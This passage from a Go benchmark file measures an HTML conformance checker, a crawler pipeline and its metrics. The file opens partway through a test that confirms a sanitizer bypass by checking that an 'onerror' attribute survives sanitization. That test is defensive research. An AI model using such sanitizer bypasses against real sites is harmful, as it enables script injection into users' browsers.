	armed := false
	for i := 0; i < b.N; i++ {
		clean, err := s.Sanitize(payload)
		if err != nil {
			b.Fatal(err)
		}
		res, err := htmlparse.ParseFragment([]byte(clean), "div")
		if err != nil {
			b.Fatal(err)
		}
		armed = res.Doc.Find(func(n *htmlparse.Node) bool {
			_, ok := n.LookupAttr("onerror")
			return n.Type == htmlparse.ElementNode && ok
		}) != nil
	}
	if !armed {
		b.Fatal("bypass did not arm")
	}
}

// ---- Parser and pipeline micro benchmarks ----

func BenchmarkParseDocument(b *testing.B) {
	pages := samplePages(32)
	var bytes int
	for _, p := range pages {
		bytes += len(p)
	}
	b.SetBytes(int64(bytes / len(pages)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := htmlparse.Parse(pages[i%len(pages)]); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkCheckDocument(b *testing.B) {
	pages := samplePages(32)
	checker := core.NewChecker()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := checker.Check(pages[i%len(pages)]); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAutofixRepair(b *testing.B) {
	pages := samplePages(32)
	for i := 0; i < b.N; i++ {
		if _, err := autofix.Repair(pages[i%len(pages)]); err != nil {
			b.Fatal(err)
		}
	}
}

// ---- Ablations (DESIGN.md §6) ----

// BenchmarkAblationSharedParse: all twenty rules over one parse …
func BenchmarkAblationSharedParse(b *testing.B) {
	pages := samplePages(16)
	checker := core.NewChecker()
	for i := 0; i < b.N; i++ {
		if _, err := checker.Check(pages[i%len(pages)]); err != nil {
			b.Fatal(err)
		}
	}
}

// … versus BenchmarkAblationPerRuleParse: re-parsing for every rule, the
// naive framework design the shared parse avoids.
func BenchmarkAblationPerRuleParse(b *testing.B) {
	pages := samplePages(16)
	var checkers []*core.Checker
	for _, r := range core.RuleIDs() {
		checkers = append(checkers, core.NewChecker(r))
	}
	for i := 0; i < b.N; i++ {
		for _, c := range checkers {
			if _, err := c.Check(pages[i%len(pages)]); err != nil {
				b.Fatal(err)
			}
		}
	}
}

// BenchmarkAblationTokenizerOnly: the streaming subset (no tree
// construction) against the full check.
func BenchmarkAblationTokenizerOnly(b *testing.B) {
	pages := samplePages(16)
	checker := core.NewStreamingChecker()
	for i := 0; i < b.N; i++ {
		if _, err := checker.CheckStream(pages[i%len(pages)]); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAblationWarcVsSynthetic: materializing pages through the WARC
// blob + HTTP-block decode versus straight generation, quantifying what
// the archive layer costs.
func BenchmarkAblationWarcRoundTrip(b *testing.B) {
	g := corpus.New(corpus.Config{Seed: 7, Domains: 32, MaxPages: 4})
	arch := commoncrawl.NewSynthetic(g)
	crawl := arch.Crawls()[3]
	domains := g.Universe()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d := domains[i%len(domains)]
		recs, err := arch.Query(context.Background(), crawl, d, 2)
		if err != nil {
			b.Fatal(err)
		}
		for _, rec := range recs {
			if _, err := commoncrawl.FetchCapture(context.Background(), arch, rec); err != nil {
				b.Fatal(err)
			}
		}
	}
}

func BenchmarkAblationSyntheticDirect(b *testing.B) {
	g := corpus.New(corpus.Config{Seed: 7, Domains: 32, MaxPages: 4})
	domains := g.Universe()
	snap := corpus.Snapshots[3]
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d := domains[i%len(domains)]
		n := g.PageCount(d, snap)
		for p := 0; p < n && p < 2; p++ {
			_, _, body := g.PageHTTP(d, snap, p)
			_ = body
		}
	}
}

// BenchmarkAblationPipelineWidth sweeps the worker pool size over one
// snapshot (the paper's single-machine throughput is ~1,000 pages/min;
// report pages/sec to compare).
func benchmarkPipelineWidth(b *testing.B, workers int) {
	g := corpus.New(corpus.Config{Seed: 7, Domains: 200, MaxPages: 3})
	arch := commoncrawl.NewSynthetic(g)
	domains := g.Universe()
	crawl := arch.Crawls()[0]
	b.ResetTimer()
	var pages int
	for i := 0; i < b.N; i++ {
		st := store.New()
		pipe := crawler.New(arch, core.NewChecker(), st, crawler.Config{
			Workers: workers, PagesPerDomain: 3,
		})
		stats, err := pipe.RunSnapshot(context.Background(), crawl, domains)
		if err != nil {
			b.Fatal(err)
		}
		pages += stats.PagesAnalyzed
	}
	b.ReportMetric(float64(pages)/b.Elapsed().Seconds(), "pages/sec")
}

func BenchmarkAblationPipelineWidth1(b *testing.B)  { benchmarkPipelineWidth(b, 1) }
func BenchmarkAblationPipelineWidth4(b *testing.B)  { benchmarkPipelineWidth(b, 4) }
func BenchmarkAblationPipelineWidth16(b *testing.B) { benchmarkPipelineWidth(b, 16) }

// ---- Observability (internal/obs) ----

// BenchmarkPipelineInstrumented runs one snapshot with the full metrics
// stack (pipeline stages + per-rule counters + archive outcomes) and
// reports throughput and the check-stage tail from the metrics themselves
// — the numbers `hvcrawl` prints in its run summary.
func BenchmarkPipelineInstrumented(b *testing.B) {
	g := corpus.New(corpus.Config{Seed: 7, Domains: 200, MaxPages: 3})
	arch := commoncrawl.NewSynthetic(g)
	domains := g.Universe()
	crawl := arch.Crawls()[0]
	b.ResetTimer()
	var summary crawler.RunSummary
	for i := 0; i < b.N; i++ {
		reg := obs.NewRegistry()
		pipe := crawler.New(commoncrawl.Instrument(arch, reg),
			core.NewChecker().Instrument(reg), store.New().Instrument(reg),
			crawler.Config{PagesPerDomain: 3, Registry: reg})
		start := time.Now()
		if _, err := pipe.RunSnapshot(context.Background(), crawl, domains); err != nil {
			b.Fatal(err)
		}
		summary = pipe.Summary(time.Since(start))
	}
	b.ReportMetric(summary.PagesPerSec, "pages/sec")
	for _, st := range summary.Stages {
		if st.Stage == "check" {
			b.ReportMetric(st.P95ms, "check_p95_ms")
		}
	}
}

// BenchmarkAblationCheckInstrumented quantifies the metrics overhead on
// the hottest path: the same check loop as BenchmarkCheckDocument, with
// per-rule counters enabled. The delta should be nanoseconds per page.
func BenchmarkAblationCheckInstrumented(b *testing.B) {
	pages := samplePages(32)
	checker := core.NewChecker().Instrument(obs.NewRegistry())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := checker.Check(pages[i%len(pages)]); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkHistogramObserve is the cost of one metric observation — the
// unit the pipeline pays four times per page.
func BenchmarkHistogramObserve(b *testing.B) {
	h := obs.NewHistogram(obs.DurationBuckets)
	b.RunParallel(func(pb *testing.PB) {
		v := 0.0001
		for pb.Next() {
			h.Observe(v)
			v *= 1.7
			if v > 20 {
				v = 0.0001
			}
		}
	})
	if h.Count() == 0 {
		b.Fatal("no observations")
	}
}

// ---- Discussion-section reproductions (§5.1–§5.3) ----

// BenchmarkSection51DynamicContent runs the dynamic-content pre-study over
// the top sites (the paper's live-crawl substitute).
func BenchmarkSection51DynamicContent(b *testing.B) {
	g := corpus.New(corpus.Config{Seed: 22, Domains: 400, MaxPages: 2})
	var res *prestudy.DynamicResult
	for i := 0; i < b.N; i++ {
		var err error
		res, err = prestudy.RunDynamic(g, corpus.Snapshots[6], 400)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(res.ViolatingPct, "dynamic_violating_pct")
	b.ReportMetric(60, "paper_lower_bound_pct")
}

// BenchmarkSection52Generalization compares the ranking's top and tail.
func BenchmarkSection52Generalization(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var g analysis.Generalization
	for i := 0; i < b.N; i++ {
		g = f.an.GeneralizationFor(f.an.LatestCrawl())
	}
	b.ReportMetric(g.Top.AvgViolations, "top_avg_violations")
	b.ReportMetric(g.Tail.AvgViolations, "tail_avg_violations")
}

// BenchmarkSection53DeprecationPlan projects the staged enforcement.
func BenchmarkSection53DeprecationPlan(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var plan []analysis.DeprecationStage
	for i := 0; i < b.N; i++ {
		plan = f.an.DeprecationPlan(1.0, 25)
	}
	if len(plan) == 0 {
		b.Fatal("empty plan")
	}
	// The first stage must contain immediately-enforceable (already rare)
	// rules, as the paper proposes.
	first := plan[0]
	if first.Year == -1 || len(first.Rules) == 0 {
		b.Fatalf("no immediately enforceable rules: %+v", plan)
	}
	b.ReportMetric(float64(len(first.Rules)), "stage1_rules")
}

// BenchmarkParseLargeDocument: throughput on a ~0.5 MB page assembled from
// corpus content (Common Crawl truncates records at 1 MB; this is the top
// of the realistic size range).
func BenchmarkParseLargeDocument(b *testing.B) {
	pages := samplePages(64)
	var large []byte
	large = append(large, "<!DOCTYPE html><html><head><title>big</title></head><body>"...)
	for i := 0; len(large) < 512<<10; i++ {
		p := pages[i%len(pages)]
		// Strip the per-page skeleton; keep body-ish content only.
		large = append(large, p...)
	}
	large = append(large, "</body></html>"...)
	b.SetBytes(int64(len(large)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := htmlparse.Parse(large); err != nil {
			b.Fatal(err)
		}
	}
}
